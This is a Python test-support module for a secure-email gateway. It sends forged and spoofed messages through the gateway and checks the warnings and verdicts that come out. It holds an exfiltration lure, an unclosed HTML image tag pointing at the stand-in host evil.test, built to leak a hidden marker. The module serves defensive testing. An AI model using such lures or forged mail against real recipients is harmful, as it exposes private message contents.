"""What the tests of spoofed mail share: two members elsewhere, attacks as rows of a table, one look at what
became of each.

    ATTACKS = Attacks()

    @ATTACKS.add
    def name(s):                     # s: the running Spoof
        '''The trick, in a sentence.'''
        return Attack(entity, sender, "002", "member-unsigned", OPAQUE)

    sent = ATTACKS.fixture()         # sends all of them at once, for the waiting is what takes time
    @pytest.mark.parametrize("name", ATTACKS.names)
    def test_x(sent, name): sent.check(name)
"""
import dataclasses
import email
import re
import tempfile

import pytest

import corpus
import forge
import peers
from partners import DCA, Partner, from_directory
from sealgate.mailserver import MailServer
from sealgate.ports import PortBlock
from sealgate.process import wait_for
from setting import A, B, C, OUTSIDE, Setting, header
from test_mail_hostile import Lines

EVIL, VICTIM = "partner.test", "member.test"
# What a client gets to see of the mail
UNCHANGED = "as it came"                 # none of our business: byte for byte, no result
MESSAGE = "attached as a message"        # behind the warning; may be rendered
OPAQUE = "attached as octets"            # behind the warning; rendered by nothing
VERIFIED = "verified"                    # as the sender domain's word
OPENED = "opened"                        # nobody's word, but intact

SECRET = b"Hidden-Marker-7351"
TEXT = b"Content-Type: text/plain\r\n\r\nDear Ann,\r\n" + SECRET + b"\r\n"
LURE = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/?\r\n"


@dataclasses.dataclass
class Attack:
    entity: bytes                # content fields, empty line, body
    sender: str                  # From, as it stands there
    code: str                    # of the warning; "" none
    rule: str                    # that decided
    shown: str
    to: str = B
    fields: bytes = b""          # further header fields, in front of the entity's
    domain: str = ""             # VERIFIED: whose word it is
    content: bytes = None        # VERIFIED, OPENED: the entity that is delivered
    absent: tuple = (SECRET,)    # nowhere a client would render it
    present: tuple = ()          # in what was delivered, as it stands
    direct: bool = False         # straight to gatewayd: Postfix would mend it
    from_fields: bytes = None    # all From fields, where one line is not enough


class Spoof(Setting):
    """The setting, EVIL and VICTIM: members elsewhere, whose keys the test has."""

    def __init__(self, folder, block, domains=()):
        elsewhere = block.base + 18
        super().__init__(folder, block, dict.fromkeys([EVIL, VICTIM, *domains], elsewhere))
        self.servers["elsewhere"] = MailServer(elsewhere, f"{folder}/mail/elsewhere")

    def start(self):
        super().start()
        self.folder = self.platform.layout.dir / "forged"
        self.folder.mkdir(mode=0o700)
        self.evil = Partner(self.platform, EVIL).identity
        self.victim = Partner(self.platform, VICTIM).identity
        self.platform.refca.publish()
        self.authority = forge.Authority.of(self.platform.refca)
        self.agency = {domain: from_directory(self.platform, domain,
                                              self.platform.layout.dir / "found")
                       for domain in (A, B, C)}
        self.nobody = forge.self_made([f"{DCA}@{OUTSIDE}"], self.folder)
        self.tools = {}
        return self

    def openssl(self, identity):
        """openssl cms with that key."""
        if identity.name not in self.tools:
            self.tools[identity.name] = peers.OpenSsl(self.folder, self.platform.layout.ca / "root.pem")
            self.tools[identity.name].own(identity)
        return self.tools[identity.name]

    def genuine(self, content=TEXT, to=B, cipher="aes256-cbc"):
        """What VICTIM's gateway sends, made by openssl: signed, then encrypted."""
        software = self.openssl(self.victim)
        return wire(software.encrypt(software.sign(content), self.agency[to], cipher))

    def steps(self, organisation, subject, last="decided"):
        """The trace of the message with that subject, once it has come as far as that step."""
        def found():
            for row in organisation.messages(message_id=f"{subject}@x.test"):
                rows = organisation.trace(row["id"])
                if any(r["step"] == last for r in rows):
                    return rows
            return None
        return wait_for(found, 20, f"{last} in the trace of {subject}")

    def lmtp(self, queue_id, sender, recipient, message):
        """One transaction as Postfix "in" would make it; the reply to it."""
        lines = Lines("127.0.0.1", self.platform.port["inbound"])
        try:
            assert lines.say("LHLO in.test").startswith("250")
            assert lines.say(f"XFORWARD IDENT={queue_id} ADDR=192.0.2.1").startswith("250")
            lines.transaction(sender, [recipient], message)
            return lines.reply()
        finally:
            lines.close()


def spoof_fixture(*domains):
    """The running Spoof, for a module; to further domains mail can be sent."""
    @pytest.fixture(scope="module", name="setting")
    def setting():
        with PortBlock() as block, tempfile.TemporaryDirectory(prefix="sgf", dir="/var/tmp") as folder:
            s = Spoof(folder, block, domains)
            try:
                yield s.start()
            finally:
                s.stop()
    return setting


def wire(entity):
    """CRLF everywhere: openssl ends the lines of its own header fields with LF."""
    return re.sub(rb"(?<!\r)\n", b"\r\n", entity)


def multipart(subtype, *parts, fields=b"", boundary=b"outer-1"):
    """Parts are entities, or octets that are put between delimiters as they are."""
    return (b"Content-Type: multipart/" + subtype + b"; boundary=\"" + boundary + b"\"" + fields
            + b"\r\n\r\n" + b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
            + b"--" + boundary + b"--\r\n")


def rendered(raw):
    """The octets that a client might show, run or fetch something for: all but what is attached as
    application/octet-stream, as they stand and decoded."""
    found = [raw]
    for part in email.message_from_bytes(raw).walk():
        if not part.is_multipart() and part.get_content_type() != "application/octet-stream":
            found.append(part.get_payload(decode=True) or b"")
    return found


def only(raw, name):
    """The value of a field that stands there once."""
    values = [field.partition(b":")[2].strip() for field in corpus.split(raw)[0]
              if field.partition(b":")[0].strip().lower() == name.lower().encode()]
    assert len(values) == 1, f"{name}: {values}"
    return values[0].decode()


def no_results(raw):
    """None of the fields by which a gateway says something of a mail."""
    for field in corpus.split(raw)[0]:
        name = field.partition(b":")[0].strip().lower()
        assert not name.startswith(b"x-sealgate-"), field
        assert name not in (b"x-nz-secure-email", b"x-seemail-version"), field


def warned(raw, code, shown):
    """One verdict, the warning in front, one attachment behind it; the attachment's octets."""
    assert only(raw, "X-Sealgate-Verdict") == f"unverified; code={code}"
    assert header(raw, "X-NZ-Secure-email") is None and header(raw, "X-SEEMail-Version") is None
    message = email.message_from_bytes(raw)
    assert message.get_content_type() == "multipart/mixed"
    warning, attached = message.get_payload()
    assert warning.get_content_type() == "text/plain"
    text = warning.get_payload(decode=True).decode()
    assert f"[Code: {code}]" in text and "UNVERIFIED MESSAGE \u2013" in text
    assert attached.get_content_disposition() == "attachment"
    if shown == OPAQUE:
        assert attached.get_content_type() == "application/octet-stream"
        assert not attached.is_multipart()
        return attached.get_payload(decode=True)
    assert attached.get_content_type() == "message/rfc822"
    return attached.get_payload(0).as_bytes()


class Attacks:
    def __init__(self):
        self.made = {}

    def add(self, function):
        self.made[function.__name__.replace("_", "-")] = function
        return function

    @property
    def names(self):
        return list(self.made)

    def fixture(self):
        @pytest.fixture(scope="module", name="sent")
        def sent(setting):
            return Sent(setting, {name: make(setting) for name, make in self.made.items()})
        return sent


class Sent:
    def __init__(self, setting, attacks):
        self.setting, self.attacks, self.messages, self.replies = setting, attacks, {}, {}
        for name, attack in attacks.items():
            self.messages[name] = message = self.message(name, attack)
            if attack.direct:
                self.replies[name] = setting.lmtp(f"3Spoof{name}", f"x@{OUTSIDE}",
                                                  f"ann@{attack.to}", message)
            else:
                setting.from_outside(f"x@{OUTSIDE}", [f"ann@{attack.to}"], message)

    @staticmethod
    def message(name, attack):
        sender = attack.from_fields
        if sender is None:
            sender = f"From: {attack.sender}\r\n".encode()
        mime = b"" if b"mime-version:" in attack.entity.partition(b"\r\n\r\n")[0].lower() \
            else b"MIME-Version: 1.0\r\n"
        # As members' gateways send it: what is verified lacks nothing
        claim = b"X-NZ-Secure-email: 1.0\r\n" if attack.shown == VERIFIED else b""
        return (sender + claim + f"To: ann@{attack.to}\r\nSubject: {name}\r\n"
                f"Date: Mon, 23 Nov 2026 10:00:00 +1300\r\nMessage-ID: <{name}@x.test>\r\n".encode()
                + attack.fields + mime + attack.entity)

    def arrived(self, name):
        field = b"\r\nSubject: " + name.encode() + b"\r\n"
        return self.setting.servers[self.attacks[name].to].wait(
            1, 60, lambda mail: field in b"\r\n" + mail.head)[0].raw

    def check(self, name):
        attack, raw = self.attacks[name], self.arrived(name)
        organisation = {A: self.setting.a, B: self.setting.b, C: self.setting.c}[attack.to]
        decided = next(r for r in self.setting.steps(organisation, name) if r["step"] == "decided")
        assert (decided["detail"]["rule"], decided["detail"].get("code") or "") == \
            (attack.rule, attack.code), decided["detail"]
        if attack.shown == UNCHANGED:
            no_results(raw)
            assert raw.endswith(self.messages[name])
        elif attack.shown in (VERIFIED, OPENED):
            said = f"verified; domain={attack.domain}" if attack.shown == VERIFIED else "opened"
            assert only(raw, "X-Sealgate-Verdict") == said
            if attack.content is not None:
                fields, _, body = attack.content.partition(b"\r\n\r\n")
                assert corpus.split(raw)[1] == (body if body.endswith(b"\r\n") else body + b"\r\n")
                got = [f for f in corpus.content_fields(raw)
                       if not f.lower().startswith(b"mime-version")]
                assert got == [f for f in corpus.split(fields + b"\r\n\r\n")[0]
                               if f.lower().startswith(b"content-")]
        else:
            warned(raw, attack.code, attack.shown)
        for octets in rendered(raw):
            for mark in attack.absent:
                assert mark not in octets
        for mark in attack.present:
            assert mark in raw
